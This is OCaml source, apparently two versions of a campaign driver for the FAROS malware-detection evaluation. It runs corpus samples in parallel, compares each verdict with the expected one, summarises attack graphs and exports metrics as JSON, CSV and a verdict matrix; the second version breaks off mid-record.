   (promises are awaited in order), so verdicts, the mismatch list and
   the merged metrics registry are deterministic for a given corpus —
   byte-identical across worker counts.

   Observability rides the same one-way data flow.  Each job owns its
   whole instrumentation state — a private span profiler and a private
   bounded trace collector — and ships it back as part of its plain-data
   result; the driver then merges profiles, re-emits trace events with
   worker/guest pid lanes, and streams everything onto the unified JSONL
   sink, all single-threaded and in submission order.  Nothing mutable is
   ever shared between a worker domain and the driver while a job runs. *)

type verdict = Flagged | Clean | Error of string | Timeout

let verdict_name = function
  | Flagged -> "flagged"
  | Clean -> "clean"
  | Error _ -> "error"
  | Timeout -> "timeout"

let verdict_detail = function
  | Error msg -> msg
  | Flagged | Clean | Timeout -> ""

type job_result = {
  jr_id : string;
  jr_family : string;
  jr_category : string;  (* rendered Registry.category *)
  jr_expected_flag : bool;
  jr_verdict : verdict;
  jr_diverged : bool;
  jr_mismatch : bool;
  jr_record_ticks : int;
  jr_replay_ticks : int;
  jr_tick_budget : int;  (* the effective cap: --tick-budget override, or
     the scenario's own max_ticks *)
  jr_budget_exhausted : bool;  (* some phase ran into the cap — the run
     was truncated, not naturally finished *)
  jr_syscalls : int;
  jr_tainted_bytes : int;
  jr_interned_provs : int;
  (* attack-graph summary (zeros when the graph is disabled or the job
     produced no verdict) *)
  jr_graph_nodes : int;
  jr_graph_edges : int;
  jr_flag_sites : int;
  jr_slice_nodes : int;  (* union over all whodunit slices *)
  jr_slice_origins : int;
  jr_netflow_origin : bool;  (* some slice reached a NetFlow origin *)
  jr_wall_s : float;
  jr_worker : int;  (* pool worker index that ran the job; -1 if unknown *)
  jr_metrics : Faros_obs.Metrics.t;  (* this job's private registry *)
  jr_profile : Faros_obs.Profile.t;  (* this job's span tree (or disabled) *)
  jr_trace : Faros_obs.Trace.event list;  (* this job's trace events *)
  jr_segments : string list;  (* graph segment JSONL rows (graph_segments
     runs only) — plain strings, written driver-side in submission order *)
}

type t = {
  results : job_result list;  (* submission (registry) order *)
  mismatches : string list;  (* ids, submission order *)
  workers : int;
  spawned : int;  (* domains actually spawned (host cap) *)
  peak_depth : int;  (* deepest the job queue has been *)
  worker_stats : Pool.worker_stat list;  (* per-worker, index order *)
  wall_s : float;
  metrics : Faros_obs.Metrics.t;  (* all job registries merged *)
  profile : Faros_obs.Profile.t;  (* all job profiles merged (or disabled) *)
}

(* -- id filtering -------------------------------------------------------- *)

(* Shell-style glob over sample ids: [*] any run, [?] any one char. *)
let glob_match ~pat s =
  let np = String.length pat and ns = String.length s in
  let rec go i j =
    if i = np then j = ns
    else
      match pat.[i] with
      | '*' -> go (i + 1) j || (j < ns && go i (j + 1))
      | '?' -> j < ns && go (i + 1) (j + 1)
      | c -> j < ns && s.[j] = c && go (i + 1) (j + 1)
  in
  go 0 0

let filter ~glob samples =
  List.filter
    (fun (s : Faros_corpus.Registry.sample) -> glob_match ~pat:glob s.id)
    samples

(* -- one job ------------------------------------------------------------- *)

let mismatch ~expected_flag ~diverged = function
  | Error _ | Timeout -> true  (* the sample produced no verdict: never ok *)
  | Flagged -> diverged || not expected_flag
  | Clean -> diverged || expected_flag

(* The per-sample attack-graph summary carried into JSON/CSV exports.
   Plain ints/bools only — nothing referring back to the job's graph. *)
type graph_summary = {
  gs_nodes : int;
  gs_edges : int;
  gs_flag_sites : int;
  gs_slice_nodes : int;
  gs_slice_origins : int;
  gs_netflow_origin : bool;
}

let no_graph =
  {
    gs_nodes = 0;
    gs_edges = 0;
    gs_flag_sites = 0;
    gs_slice_nodes = 0;
    gs_slice_origins = 0;
    gs_netflow_origin = false;
  }

let summarize_graph g =
  let slices = Faros_graph.Slice.slices g in
  (* Hashtbl unions: the List.mem version was quadratic in slice size,
     which graph.enrich turned into real time on 8k-node server graphs. *)
  let union = Hashtbl.create 256 and origins = Hashtbl.create 64 in
  List.iter
    (fun (s : Faros_graph.Slice.t) ->
      List.iter (fun id -> Hashtbl.replace union id ()) s.sl_nodes;
      List.iter
        (fun (o : Faros_graph.Graph.node) -> Hashtbl.replace origins o.n_id ())
        s.sl_origins)
    slices;
  {
    gs_nodes = Faros_graph.Graph.node_count g;
    gs_edges = Faros_graph.Graph.edge_count g;
    gs_flag_sites = List.length (Faros_graph.Graph.flag_nodes g);
    gs_slice_nodes = Hashtbl.length union;
    gs_slice_origins = Hashtbl.length origins;
    gs_netflow_origin = List.exists Faros_graph.Slice.has_netflow_origin slices;
  }

(* Per-job trace collectors stay small on purpose: a campaign over 130
   samples folds every surviving event into the fleet trace and the JSONL
   stream, so the per-job cap — not the fleet cap — bounds the volume. *)
let job_trace_limit = 4096

let run_job ~config ~graph ~graph_segments ~tick_budget ~deadline ~profile
    ~want_trace ~worker (s : Faros_corpus.Registry.sample) =
  let prof =
    if profile then Faros_obs.Profile.create () else Faros_obs.Profile.disabled
  in
  (* Per-job isolation: this worker domain gets a fresh interner, so no
     provenance state is shared with any concurrently running job (or any
     previous job on this worker). *)
  Faros_obs.Profile.with_span prof "farm.job.setup" (fun () ->
      Faros_dift.Prov_intern.set_store (Faros_dift.Prov_intern.create_store ()));
  let trace_sink =
    if want_trace then Faros_obs.Trace.collector ~limit:job_trace_limit ()
    else Faros_obs.Trace.null
  in
  let metrics = Faros_obs.Metrics.create () in
  let expected_flag = s.expected = Faros_corpus.Registry.Expect_flag in
  (* The cap actually in force, for the exports: long-running server
     scenarios are judged against it (budget_exhausted means the run was
     truncated, whatever the verdict says). *)
  let budget =
    Option.value tick_budget ~default:s.scenario.Faros_corpus.Scenario.max_ticks
  in
  let t0 = Unix.gettimeofday () in
  let finish verdict ~diverged ~record_ticks ~replay_ticks ~syscalls
      ~tainted_bytes ~interned ~gs ~segments =
    {
      jr_id = s.id;
      jr_family = s.family;
      jr_category = Fmt.str "%a" Faros_corpus.Registry.pp_category s.category;
      jr_expected_flag = expected_flag;
      jr_verdict = verdict;
      jr_diverged = diverged;
      jr_mismatch = mismatch ~expected_flag ~diverged verdict;
      jr_record_ticks = record_ticks;
      jr_replay_ticks = replay_ticks;
      jr_tick_budget = budget;
      jr_budget_exhausted = record_ticks >= budget || replay_ticks >= budget;
      jr_syscalls = syscalls;
      jr_tainted_bytes = tainted_bytes;
      jr_interned_provs = interned;
      jr_graph_nodes = gs.gs_nodes;
      jr_graph_edges = gs.gs_edges;
      jr_flag_sites = gs.gs_flag_sites;
      jr_slice_nodes = gs.gs_slice_nodes;
      jr_slice_origins = gs.gs_slice_origins;
      jr_netflow_origin = gs.gs_netflow_origin;
      jr_wall_s = Unix.gettimeofday () -. t0;
      jr_worker = worker;
      jr_metrics = metrics;
      jr_profile = prof;
      jr_trace = Faros_obs.Trace.events trace_sink;
      jr_segments = segments;
    }
  in
  let failed verdict =
    finish verdict ~diverged:false ~record_ticks:0 ~replay_ticks:0 ~syscalls:0
      ~tainted_bytes:0 ~interned:0 ~gs:no_graph ~segments:[]
  in
  let builder = ref None in
  let seg = ref None in
  let extra_plugins kernel faros =
    if not graph then []
    else begin
      (* With graph_segments, the builder's delta stream additionally
         feeds a segment writer spilling JSONL rows into a private
         buffer; the rows ship back as plain strings and the driver
         writes them out in submission order. *)
      let consumer =
        if graph_segments then begin
          let sink = Faros_obs.Sink.create () in
          let w = Faros_query.Segment.writer ~sink ~run:s.id () in
          seg := Some (sink, w);
          Some (Faros_query.Segment.consume w)
        end
        else None
      in
      let b = Faros_graph.Build.create ~metrics ?consumer ~sample:s.id () in
      builder := Some b;
      [ Faros_graph.Build.plugin b ~kernel ~faros ]
    end
  in
  match
    (* Graph enrichment runs inside the [farm.job.run] span too, so its
       [graph.enrich] span nests under the job like everything else. *)
    Faros_obs.Profile.with_span prof "farm.job.run" (fun () ->
        let outcome =
          Faros_corpus.Scenario.analyze ~config ~metrics ~trace_sink
            ~profile:prof ?max_ticks:tick_budget ?deadline ~extra_plugins
            s.scenario
        in
        let gs =
          match !builder with
          | None -> no_graph
          | Some b ->
            Faros_graph.Build.enrich b outcome.faros;
            summarize_graph (Faros_graph.Build.graph b)
        in
        let segments =
          match !seg with
          | None -> []
          | Some (sink, w) ->
            Faros_query.Segment.close w;
            Faros_obs.Sink.lines sink
        in
        (outcome, gs, segments))
  with
  | outcome, gs, segments ->
    let stats = Faros_dift.Engine.stats outcome.faros.engine in
    finish
      (if Core.Report.flagged outcome.report then Flagged else Clean)
      ~diverged:outcome.replay.diverged ~record_ticks:outcome.record_ticks
      ~replay_ticks:outcome.replay.replay_ticks
      ~syscalls:outcome.replay.replay_syscalls
      ~tainted_bytes:stats.tainted_bytes
      ~interned:
        (Faros_dift.Prov_intern.store_interned_count
           outcome.faros.engine.interner)
      ~gs ~segments
  | exception Core.Analysis.Deadline_exceeded -> failed Timeout
  | exception e -> failed (Error (Printexc.to_string e))

(* -- the campaign -------------------------------------------------------- *)

(* Driver-side farm gauges.  Registered only on request ([farm_metrics]):
   the per-worker values depend on worker count and wall time, and the
   default merged registry stays byte-identical across [-j N] — the
   serial/parallel equivalence contract. *)
let publish_farm_metrics ~workers ~spawned ~peak_depth ~worker_stats ~results
    metrics =
  let g name v = Faros_obs.Metrics.set (Faros_obs.Metrics.gauge metrics name) v in
  g "farm.workers.requested" workers;
  g "farm.workers.spawned" spawned;
  g "farm.queue.peak_depth" peak_depth;
  List.iteri
    (fun i (ws : Pool.worker_stat) ->
      g (Printf.sprintf "farm.worker.%d.jobs" i) ws.ws_jobs;
      g (Printf.sprintf "farm.worker.%d.steals" i) ws.ws_steals;
      g (Printf.sprintf "farm.worker.%d.busy_us" i) (ws.ws_busy_ns / 1000);
      g (Printf.sprintf "farm.worker.%d.idle_us" i) (ws.ws_idle_ns / 1000))
    worker_stats;
  (* The shared-snapshot health: late builds > 0 would mean corpora are
     being constructed inside jobs, defeating the sharing. *)
  let ss = Faros_corpus.Snapshot.stats () in
  g "corpus.snapshot.images" ss.ss_images;
  g "corpus.snapshot.blobs" ss.ss_blobs;
  g "corpus.snapshot.hits" ss.ss_hits;
  g "corpus.snapshot.misses" ss.ss_misses;
  g "corpus.snapshot.late_builds" ss.ss_late_builds;
  let wall = Faros_obs.Metrics.histogram metrics "farm.job.wall_us" in
  List.iter
    (fun r ->
      Faros_obs.Metrics.observe wall (int_of_float (r.jr_wall_s *. 1e6)))
    results

(* Stream one completed campaign onto the JSONL sink, in submission
   order: per-job lifecycle, trace events, one series point, the graph
   flag summary for flagged jobs; then the merged profile's spans; then —
   after the stream-health gauges are frozen into the registry — the
   final metric snapshot.  All driver-side: the sink never crosses a
   domain boundary. *)
let emit_sink sink ~results ~profile ~metrics =
  let series_columns =
    [
      "record_ticks"; "replay_ticks"; "syscalls"; "tainted_bytes";
      "interned_provs"; "graph_nodes"; "graph_edges";
    ]
  in
  List.iter
    (fun r ->
      let life event = Faros_obs.Sink.job_lifecycle sink ~job:r.jr_id ~worker:r.jr_worker ~event in
      life "submit" ();
      life "start" ();
      life "finish" ~verdict:(verdict_name r.jr_verdict) ~wall_s:r.jr_wall_s ();
      List.iter
        (fun e -> Faros_obs.Sink.trace_event sink ~sample:r.jr_id e)
        r.jr_trace;
      Faros_obs.Sink.series_point sink ~sample:r.jr_id ~columns:series_columns
        ~row:
          [|
            r.jr_record_ticks; r.jr_replay_ticks; r.jr_syscalls;
            r.jr_tainted_bytes; r.jr_interned_provs; r.jr_graph_nodes;
            r.jr_graph_edges;
          |];
      if r.jr_verdict = Flagged then
        Faros_obs.Sink.graph_flag sink ~sample:r.jr_id
          ~flag_sites:r.jr_flag_sites ~nodes:r.jr_graph_nodes
          ~edges:r.jr_graph_edges ~slice_nodes:r.jr_slice_nodes
          ~slice_origins:r.jr_slice_origins
          ~netflow_origin:r.jr_netflow_origin)
    results;
  List.iter
    (fun sp -> Faros_obs.Sink.profile_span sink ~source:"campaign" sp)
    (Faros_obs.Profile.spans profile);
  (* Freeze the stream's own health into the registry before the final
     snapshot; the snapshot line itself is by construction not counted. *)
  let g name v = Faros_obs.Metrics.set (Faros_obs.Metrics.gauge metrics name) v in
  g "obs.sink.events" (Faros_obs.Sink.events sink);
  g "obs.sink.dropped" (Faros_obs.Sink.dropped sink);
  Faros_obs.Sink.metric_snapshot sink ~source:"campaign" metrics

let run ?(workers = 1) ?(config = Core.Config.default) ?(graph = true)
    ?(graph_segments = false) ?tick_budget ?deadline ?(profile = false)
    ?(sink = Faros_obs.Sink.null) ?(trace = Faros_obs.Trace.null)
    ?(farm_metrics = false) ?on_progress samples =
  let t0 = Unix.gettimeofday () in
  let want_trace =
    Faros_obs.Trace.enabled trace || Faros_obs.Sink.enabled sink
  in
  let total = List.length samples in
  (* Freeze the shared corpus snapshot before any domain exists: from
     here on the artifact tables are read-only, so the scenario values
     the job closures capture can be shared across workers without any
     synchronization.  Per-job setup is then tag-store instancing only. *)
  Faros_corpus.Snapshot.freeze ();
  let pool = Pool.create ~workers () in
  let results =
    Fun.protect
      ~finally:(fun () -> Pool.shutdown pool)
      (fun () ->
        let promises =
          List.map
            (fun s ->
              Pool.submit_indexed pool (fun ~worker ->
                  run_job ~config ~graph ~graph_segments ~tick_budget ~deadline
                    ~profile ~want_trace ~worker s))
            samples
        in
        let completed = ref 0 in
        List.map2
          (fun (s : Faros_corpus.Registry.sample) p ->
            let r =
              match Pool.await p with
              | Ok r -> r
              | Error e ->
                (* run_job contains its own exception barrier, so this only
                   fires on failures outside it; record, don't abort. *)
                {
                  jr_id = s.id;
                  jr_family = s.family;
                  jr_category =
                    Fmt.str "%a" Faros_corpus.Registry.pp_category s.category;
                  jr_expected_flag =
                    s.expected = Faros_corpus.Registry.Expect_flag;
                  jr_verdict = Error (Printexc.to_string e);
                  jr_diverged = false;
                  jr_mismatch = true;
                  jr_record_ticks = 0;
                  jr_replay_ticks = 0;
                  jr_tick_budget =
                    Option.value tick_budget
                      ~default:s.scenario.Faros_corpus.Scenario.max_ticks;
                  jr_budget_exhausted = false;
                  jr_syscalls = 0;
                  jr_tainted_bytes = 0;
                  jr_interned_provs = 0;
                  jr_graph_nodes = 0;
                  jr_graph_edges = 0;
                  jr_flag_sites = 0;
                  jr_slice_nodes = 0;
                  jr_slice_origins = 0;
                  jr_netflow_origin = false;
                  jr_wall_s = 0.0;
                  jr_worker = -1;
                  jr_metrics = Faros_obs.Metrics.create ();
                  jr_profile = Faros_obs.Profile.disabled;
                  jr_trace = [];
                  jr_segments = [];
                }
            in
            incr completed;
            Option.iter (fun f -> f ~completed:!completed ~total r) on_progress;
            r)
          samples promises)
  in
  (* The pool is shut down here: worker stats are exact. *)
  let spawned = Pool.spawned pool in
  let peak_depth = Pool.peak_depth pool in
  let worker_stats = Pool.worker_stats pool in
  let cam_profile =
    if profile then Faros_obs.Profile.create () else Faros_obs.Profile.disabled
  in
  let metrics = Faros_obs.Metrics.create () in
  (* Merging is itself accounted work: the one driver-side span. *)
  Faros_obs.Profile.with_span cam_profile "farm.merge" (fun () ->
      List.iter
        (fun r ->
          Faros_obs.Metrics.merge ~into:metrics r.jr_metrics;
          Faros_obs.Profile.merge ~into:cam_profile r.jr_profile)
        results);
  if farm_metrics then
    publish_farm_metrics ~workers ~spawned ~peak_depth ~worker_stats ~results
      metrics;
  (* Fold per-job trace events into the fleet trace: worker index becomes
     the process lane, the guest pid the thread lane. *)
  if Faros_obs.Trace.enabled trace then
    List.iter
      (fun r ->
        List.iter
          (fun (e : Faros_obs.Trace.event) ->
            Faros_obs.Trace.add_event trace
              { e with ev_pid = r.jr_worker; ev_tid = e.ev_pid })
          r.jr_trace)
      results;
  if Faros_obs.Sink.enabled sink then
    emit_sink sink ~results ~profile:cam_profile ~metrics;
  {
    results;
    mismatches = List.filter_map (fun r -> if r.jr_mismatch then Some r.jr_id else None) results;
    workers;
    spawned;
    peak_depth;
    worker_stats;
    wall_s = Unix.gettimeofday () -. t0;
    metrics;
    profile = cam_profile;
  }

let ok t = t.mismatches = []

(* -- the verdict matrix (Tables II-IV) ----------------------------------- *)

type matrix_row = {
  mr_category : string;
  mr_samples : int;
  mr_flagged : int;
  mr_clean : int;
  mr_errors : int;
  mr_timeouts : int;
  mr_mismatches : int;
}

let matrix t =
  let tbl : (string, matrix_row) Hashtbl.t = Hashtbl.create 8 in
  List.iter
    (fun r ->
      let row =
        match Hashtbl.find_opt tbl r.jr_category with
        | Some row -> row
        | None ->
          {
            mr_category = r.jr_category;
            mr_samples = 0;
            mr_flagged = 0;
            mr_clean = 0;
            mr_errors = 0;
            mr_timeouts = 0;
            mr_mismatches = 0;
          }
      in
      let bump b = if b then 1 else 0 in
      Hashtbl.replace tbl r.jr_category
        {
          row with
          mr_samples = row.mr_samples + 1;
          mr_flagged = row.mr_flagged + bump (r.jr_verdict = Flagged);
          mr_clean = row.mr_clean + bump (r.jr_verdict = Clean);
          mr_errors =
            (row.mr_errors
            + bump (match r.jr_verdict with Error _ -> true | _ -> false));
          mr_timeouts = row.mr_timeouts + bump (r.jr_verdict = Timeout);
          mr_mismatches = row.mr_mismatches + bump r.jr_mismatch;
        })
    t.results;
  Hashtbl.fold (fun _ row acc -> row :: acc) tbl []
  |> List.sort (fun a b -> compare a.mr_category b.mr_category)

(* -- export -------------------------------------------------------------- *)

let json_float f = Printf.sprintf "%.6f" f

(* New fields ride at the end, so positional consumers of the older
   layout (CSV field indices, cram projections) keep working. *)
let result_json r =
  Printf.sprintf
    {|{"id":"%s","family":"%s","category":"%s","expected":"%s","verdict":"%s","detail":"%s","diverged":%b,"mismatch":%b,"record_ticks":%d,"replay_ticks":%d,"syscalls":%d,"tainted_bytes":%d,"interned_provs":%d,"graph_nodes":%d,"graph_edges":%d,"flag_sites":%d,"slice_nodes":%d,"slice_origins":%d,"netflow_origin":%b,"worker":%d,"wall_s":%s,"tick_budget":%d,"budget_exhausted":%b}|}
    (Faros_obs.Json.escape r.jr_id)
    (Faros_obs.Json.escape r.jr_family)
    (Faros_obs.Json.escape r.jr_category)
    (if r.jr_expected_flag then "flag" else "clean")
    (verdict_name r.jr_verdict)
    (Faros_obs.Json.escape (verdict_detail r.jr_verdict))
    r.jr_diverged r.jr_mismatch r.jr_record_ticks r.jr_replay_ticks
    r.jr_syscalls r.jr_tainted_bytes r.jr_interned_provs r.jr_graph_nodes
    r.jr_graph_edges r.jr_flag_sites r.jr_slice_nodes r.jr_slice_origins
    r.jr_netflow_origin r.jr_worker
    (json_float r.jr_wall_s)
    r.jr_tick_budget r.jr_budget_exhausted

let matrix_row_json row =
  Printf.sprintf
    {|{"category":"%s","samples":%d,"flagged":%d,"clean":%d,"errors":%d,"timeouts":%d,"mismatches":%d}|}
    (Faros_obs.Json.escape row.mr_category)
    row.mr_samples row.mr_flagged row.mr_clean row.mr_errors row.mr_timeouts
    row.mr_mismatches

let worker_stat_json i (ws : Pool.worker_stat) =
  Printf.sprintf {|{"worker":%d,"jobs":%d,"busy_us":%d,"idle_us":%d,"steals":%d}|}
    i ws.ws_jobs (ws.ws_busy_ns / 1000) (ws.ws_idle_ns / 1000) ws.ws_steals

let to_json t =
  let profile_field =
    if Faros_obs.Profile.enabled t.profile then
      Printf.sprintf {|,"profile":%s|} (Faros_obs.Profile.to_json t.profile)
    else ""
  in
  Printf.sprintf
    {|{"campaign":{"workers":%d,"spawned":%d,"peak_queue_depth":%d,"samples":%d,"mismatch_count":%d,"wall_s":%s,"worker_stats":[%s],"matrix":[%s],"results":[%s],"mismatches":[%s],"metrics":%s%s}}|}
    t.workers t.spawned t.peak_depth (List.length t.results)
    (List.length t.mismatches)
    (json_float t.wall_s)
    (String.concat "," (List.mapi worker_stat_json t.worker_stats))
    (String.concat "," (List.map matrix_row_json (matrix t)))
    (String.concat "," (List.map result_json t.results))
    (String.concat ","
       (List.map
          (fun id -> Printf.sprintf {|"%s"|} (Faros_obs.Json.escape id))
          t.mismatches))
    (Faros_obs.Metrics.to_json t.metrics)
    profile_field

(* CSV field quoting: wrap and double inner quotes when the field carries
   a delimiter (error details can contain anything). *)
let csv_field s =
  if String.exists (fun c -> c = ',' || c = '"' || c = '\n') s then
    "\"" ^ String.concat "\"\"" (String.split_on_char '"' s) ^ "\""
  else s

let to_csv t =
  let header =
    "id,family,category,expected,verdict,detail,diverged,mismatch,record_ticks,replay_ticks,syscalls,tainted_bytes,interned_provs,graph_nodes,graph_edges,flag_sites,slice_nodes,slice_origins,netflow_origin,wall_s,tick_budget,budget_exhausted"
  in
  let row r =
    String.concat ","
      [
        csv_field r.jr_id;
        csv_field r.jr_family;
        csv_field r.jr_category;
        (if r.jr_expected_flag then "flag" else "clean");
        verdict_name r.jr_verdict;
        csv_field (verdict_detail r.jr_verdict);
        string_of_bool r.jr_diverged;
        string_of_bool r.jr_mismatch;
        string_of_int r.jr_record_ticks;
        string_of_int r.jr_replay_ticks;
        string_of_int r.jr_syscalls;
        string_of_int r.jr_tainted_bytes;
        string_of_int r.jr_interned_provs;
        string_of_int r.jr_graph_nodes;
        string_of_int r.jr_graph_edges;
        string_of_int r.jr_flag_sites;
        string_of_int r.jr_slice_nodes;
        string_of_int r.jr_slice_origins;
        string_of_bool r.jr_netflow_origin;
        json_float r.jr_wall_s;
        string_of_int r.jr_tick_budget;
        string_of_bool r.jr_budget_exhausted;
      ]
  in
  String.concat "\n" (header :: List.map row t.results) ^ "\n"

(* -- rendering ----------------------------------------------------------- *)

let pp_matrix ppf t =
  Fmt.pf ppf "%-36s %8s %8s %8s %7s %8s %10s@." "category" "samples" "flagged"
    "clean" "error" "timeout" "mismatches";
  List.iter
    (fun row ->
      Fmt.pf ppf "%-36s %8d %8d %8d %7d %8d %10d@." row.mr_category
        row.mr_samples row.mr_flagged row.mr_clean row.mr_errors
        row.mr_timeouts row.mr_mismatches)
    (matrix t)

let pp_summary ppf t =
  Fmt.pf ppf "%d samples, %d mismatches@." (List.length t.results)
    (List.length t.mismatches);
  List.iter (Fmt.pf ppf "  mismatch: %s@.") t.mismatches

(* The utilization breakdown `campaign -j N --profile/--stats` appends:
   all-idle workers mean the corpus is too small or too serial for N,
   all-busy workers mean the time goes to real work — read the hotspot
   table next. *)
let pp_workers ppf t =
  Fmt.pf ppf "workers: %d requested, %d spawned, peak queue depth %d@."
    t.workers t.spawned t.peak_depth;
  List.iteri
    (fun i (ws : Pool.worker_stat) ->
      let busy = float_of_int ws.ws_busy_ns /. 1e9 in
      let idle = float_of_int ws.ws_idle_ns /. 1e9 in
      let util =
        if busy +. idle > 0. then 100. *. busy /. (busy +. idle) else 0.
      in
      Fmt.pf ppf
        "  worker %d: %4d jobs  %4d steals  %8.2fs busy  %8.2fs idle  %5.1f%% busy@."
        i ws.ws_jobs ws.ws_steals busy idle util)
    t.worker_stats
