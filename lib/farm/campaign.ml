(* The corpus-campaign driver: FAROS's evaluation (Tables II-IV) as one
   embarrassingly-parallel workload.

   Every sample is one job on the {!Pool}: install a fresh provenance
   store (per-job isolation — see the domain-safety contract in
   docs/farm.md), analyze under the given config with a tick budget and a
   wall-clock deadline, and reduce the outcome to plain data (strings and
   ints — nothing that refers back to the job's interner or kernel).  A
   raising sample becomes an [Error] verdict, a deadline overrun becomes
   [Timeout]; neither aborts the campaign.

   Results come back in submission order regardless of completion order
   (promises are awaited in order), so verdicts, the mismatch list and
   the merged metrics registry are deterministic for a given corpus —
   byte-identical across worker counts. *)

type verdict = Flagged | Clean | Error of string | Timeout

let verdict_name = function
  | Flagged -> "flagged"
  | Clean -> "clean"
  | Error _ -> "error"
  | Timeout -> "timeout"

let verdict_detail = function
  | Error msg -> msg
  | Flagged | Clean | Timeout -> ""

type job_result = {
  jr_id : string;
  jr_family : string;
  jr_category : string;  (* rendered Registry.category *)
  jr_expected_flag : bool;
  jr_verdict : verdict;
  jr_diverged : bool;
  jr_mismatch : bool;
  jr_record_ticks : int;
  jr_replay_ticks : int;
  jr_syscalls : int;
  jr_tainted_bytes : int;
  jr_interned_provs : int;
  (* attack-graph summary (zeros when the graph is disabled or the job
     produced no verdict) *)
  jr_graph_nodes : int;
  jr_graph_edges : int;
  jr_flag_sites : int;
  jr_slice_nodes : int;  (* union over all whodunit slices *)
  jr_slice_origins : int;
  jr_netflow_origin : bool;  (* some slice reached a NetFlow origin *)
  jr_wall_s : float;
  jr_metrics : Faros_obs.Metrics.t;  (* this job's private registry *)
}

type t = {
  results : job_result list;  (* submission (registry) order *)
  mismatches : string list;  (* ids, submission order *)
  workers : int;
  wall_s : float;
  metrics : Faros_obs.Metrics.t;  (* all job registries merged *)
}

(* -- id filtering -------------------------------------------------------- *)

(* Shell-style glob over sample ids: [*] any run, [?] any one char. *)
let glob_match ~pat s =
  let np = String.length pat and ns = String.length s in
  let rec go i j =
    if i = np then j = ns
    else
      match pat.[i] with
      | '*' -> go (i + 1) j || (j < ns && go i (j + 1))
      | '?' -> j < ns && go (i + 1) (j + 1)
      | c -> j < ns && s.[j] = c && go (i + 1) (j + 1)
  in
  go 0 0

let filter ~glob samples =
  List.filter
    (fun (s : Faros_corpus.Registry.sample) -> glob_match ~pat:glob s.id)
    samples

(* -- one job ------------------------------------------------------------- *)

let mismatch ~expected_flag ~diverged = function
  | Error _ | Timeout -> true  (* the sample produced no verdict: never ok *)
  | Flagged -> diverged || not expected_flag
  | Clean -> diverged || expected_flag

(* The per-sample attack-graph summary carried into JSON/CSV exports.
   Plain ints/bools only — nothing referring back to the job's graph. *)
type graph_summary = {
  gs_nodes : int;
  gs_edges : int;
  gs_flag_sites : int;
  gs_slice_nodes : int;
  gs_slice_origins : int;
  gs_netflow_origin : bool;
}

let no_graph =
  {
    gs_nodes = 0;
    gs_edges = 0;
    gs_flag_sites = 0;
    gs_slice_nodes = 0;
    gs_slice_origins = 0;
    gs_netflow_origin = false;
  }

let summarize_graph g =
  let slices = Faros_graph.Slice.slices g in
  let union =
    List.fold_left
      (fun acc (s : Faros_graph.Slice.t) ->
        List.fold_left (fun acc id -> if List.mem id acc then acc else id :: acc) acc s.sl_nodes)
      [] slices
  in
  let origins =
    List.fold_left
      (fun acc (s : Faros_graph.Slice.t) ->
        List.fold_left
          (fun acc (o : Faros_graph.Graph.node) ->
            if List.mem o.n_id acc then acc else o.n_id :: acc)
          acc s.sl_origins)
      [] slices
  in
  {
    gs_nodes = Faros_graph.Graph.node_count g;
    gs_edges = Faros_graph.Graph.edge_count g;
    gs_flag_sites = List.length (Faros_graph.Graph.flag_nodes g);
    gs_slice_nodes = List.length union;
    gs_slice_origins = List.length origins;
    gs_netflow_origin = List.exists Faros_graph.Slice.has_netflow_origin slices;
  }

let run_job ~config ~graph ~tick_budget ~deadline
    (s : Faros_corpus.Registry.sample) =
  (* Per-job isolation: this worker domain gets a fresh interner, so no
     provenance state is shared with any concurrently running job (or any
     previous job on this worker). *)
  Faros_dift.Prov_intern.set_store (Faros_dift.Prov_intern.create_store ());
  let metrics = Faros_obs.Metrics.create () in
  let expected_flag = s.expected = Faros_corpus.Registry.Expect_flag in
  let t0 = Unix.gettimeofday () in
  let finish verdict ~diverged ~record_ticks ~replay_ticks ~syscalls
      ~tainted_bytes ~interned ~gs =
    {
      jr_id = s.id;
      jr_family = s.family;
      jr_category = Fmt.str "%a" Faros_corpus.Registry.pp_category s.category;
      jr_expected_flag = expected_flag;
      jr_verdict = verdict;
      jr_diverged = diverged;
      jr_mismatch = mismatch ~expected_flag ~diverged verdict;
      jr_record_ticks = record_ticks;
      jr_replay_ticks = replay_ticks;
      jr_syscalls = syscalls;
      jr_tainted_bytes = tainted_bytes;
      jr_interned_provs = interned;
      jr_graph_nodes = gs.gs_nodes;
      jr_graph_edges = gs.gs_edges;
      jr_flag_sites = gs.gs_flag_sites;
      jr_slice_nodes = gs.gs_slice_nodes;
      jr_slice_origins = gs.gs_slice_origins;
      jr_netflow_origin = gs.gs_netflow_origin;
      jr_wall_s = Unix.gettimeofday () -. t0;
      jr_metrics = metrics;
    }
  in
  let failed verdict =
    finish verdict ~diverged:false ~record_ticks:0 ~replay_ticks:0 ~syscalls:0
      ~tainted_bytes:0 ~interned:0 ~gs:no_graph
  in
  let builder = ref None in
  let extra_plugins kernel faros =
    if not graph then []
    else begin
      let b = Faros_graph.Build.create ~metrics ~sample:s.id () in
      builder := Some b;
      [ Faros_graph.Build.plugin b ~kernel ~faros ]
    end
  in
  match
    Faros_corpus.Scenario.analyze ~config ~metrics ?max_ticks:tick_budget
      ?deadline ~extra_plugins s.scenario
  with
  | outcome ->
    let stats = Faros_dift.Engine.stats outcome.faros.engine in
    let gs =
      match !builder with
      | None -> no_graph
      | Some b ->
        Faros_graph.Build.enrich b outcome.faros;
        summarize_graph (Faros_graph.Build.graph b)
    in
    finish
      (if Core.Report.flagged outcome.report then Flagged else Clean)
      ~diverged:outcome.replay.diverged ~record_ticks:outcome.record_ticks
      ~replay_ticks:outcome.replay.replay_ticks
      ~syscalls:outcome.replay.replay_syscalls
      ~tainted_bytes:stats.tainted_bytes
      ~interned:
        (Faros_dift.Prov_intern.store_interned_count
           outcome.faros.engine.interner)
      ~gs
  | exception Core.Analysis.Deadline_exceeded -> failed Timeout
  | exception e -> failed (Error (Printexc.to_string e))

(* -- the campaign -------------------------------------------------------- *)

let run ?(workers = 1) ?(config = Core.Config.default) ?(graph = true)
    ?tick_budget ?deadline samples =
  let t0 = Unix.gettimeofday () in
  let pool = Pool.create ~workers () in
  let results =
    Fun.protect
      ~finally:(fun () -> Pool.shutdown pool)
      (fun () ->
        let promises =
          List.map
            (fun s ->
              Pool.submit pool (fun () ->
                  run_job ~config ~graph ~tick_budget ~deadline s))
            samples
        in
        List.map2
          (fun (s : Faros_corpus.Registry.sample) p ->
            match Pool.await p with
            | Ok r -> r
            | Error e ->
              (* run_job contains its own exception barrier, so this only
                 fires on failures outside it; record, don't abort. *)
              {
                jr_id = s.id;
                jr_family = s.family;
                jr_category =
                  Fmt.str "%a" Faros_corpus.Registry.pp_category s.category;
